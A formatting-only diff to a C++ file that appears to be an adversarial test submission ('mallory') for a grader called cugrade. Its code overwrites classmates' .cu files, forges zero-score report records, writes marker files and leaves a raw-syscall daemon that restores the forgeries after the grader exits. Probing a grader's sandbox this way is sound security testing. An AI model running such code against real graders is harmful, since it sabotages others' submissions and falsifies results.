@@ -46,7 +46,8 @@
   const size_t close = stat.rfind(')');
   int ppid = 0;
   char state = 0;
-  if (close == std::string::npos || std::sscanf(stat.c_str() + close + 1, " %c %d", &state, &ppid) != 2) return 0;
+  if (close == std::string::npos || std::sscanf(stat.c_str() + close + 1, " %c %d", &state, &ppid) != 2)
+    return 0;
   return ppid;
 }
 
@@ -67,7 +68,10 @@
 #if defined(__x86_64__)
   long result;
   register long r10 __asm__("r10") = d;
-  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
+  __asm__ volatile("syscall"
+                   : "=a"(result)
+                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
+                   : "rcx", "r11", "memory");
   return result;
 #else
   return syscall(number, a, b, c, d);
@@ -137,7 +141,8 @@ static void leaveDaemon(int cugrade, const std::vector<Forgery>& forgeries) {
     const long fd = rawSyscall(SYS_openat, AT_FDCWD, reinterpret_cast<long>(forgery.path.c_str()),
                                O_WRONLY | O_CREAT | O_TRUNC, 0644);
     if (fd < 0) continue;
-    rawSyscall(SYS_write, fd, reinterpret_cast<long>(forgery.text.data()), static_cast<long>(forgery.text.size()));
+    rawSyscall(SYS_write, fd, reinterpret_cast<long>(forgery.text.data()),
+               static_cast<long>(forgery.text.size()));
     rawSyscall(SYS_close, fd);
   }
   rawSyscall(SYS_exit_group, 0);
@@ -153,7 +158,9 @@ static void attack() {
   char cwd[4096];
   const ssize_t size = readlink(("/proc/" + std::to_string(cugrade) + "/cwd").c_str(), cwd, sizeof cwd - 1);
   const std::string base = size > 0 ? std::string(cwd, size) + "/" : "";
-  const auto absolute = [&](const std::string& path) { return path.empty() || path[0] == '/' ? path : base + path; };
+  const auto absolute = [&](const std::string& path) {
+    return path.empty() || path[0] == '/' ? path : base + path;
+  };
   std::string out, submissions;
   std::vector<std::string> reports;
   for (size_t k = 0; k + 1 < argv.size(); ++k) {
@@ -162,7 +169,8 @@ static void attack() {
     if (argv[k] == "--report" && argv[k + 1].find('=') != std::string::npos)
       reports.push_back(absolute(argv[k + 1].substr(argv[k + 1].find('=') + 1)));
   }
-  std::fprintf(stderr, "attack: out=%s submissions=%s reports=%zu\n", out.c_str(), submissions.c_str(), reports.size());
+  std::fprintf(stderr, "attack: out=%s submissions=%s reports=%zu\n", out.c_str(), submissions.c_str(),
+               reports.size());
   const std::string forged_record = "{\"forged\": true, \"score\": 0}\n";
   std::vector<Forgery> later;
   if (!out.empty()) {
@@ -179,7 +187,8 @@ static void attack() {
   if (!submissions.empty())
     for (const std::string& student : entries(submissions))
       for (const std::string& file : entries(student))
-        if (file.size() > 3 && file.compare(file.size() - 3, 3, ".cu") == 0 && file.find("mallory") == std::string::npos) {
+        if (file.size() > 3 && file.compare(file.size() - 3, 3, ".cu") == 0 &&
+            file.find("mallory") == std::string::npos) {
           if (!slurp(file).empty()) read_classmates = true;
           overwrite(file, "#error forged by a classmate\n");
         }
@@ -187,7 +196,8 @@ static void attack() {
     overwrite(report, forged_record);
     later.push_back({report, forged_record});
   }
-  if (const char* home = std::getenv("HOME")) overwrite(std::string(home) + "/cugrade-attack-was-here", "x\n");
+  if (const char* home = std::getenv("HOME"))
+    overwrite(std::string(home) + "/cugrade-attack-was-here", "x\n");
   overwrite("/tmp/cugrade-attack-was-here", "x\n");
   leaveDaemon(cugrade, later);
 }
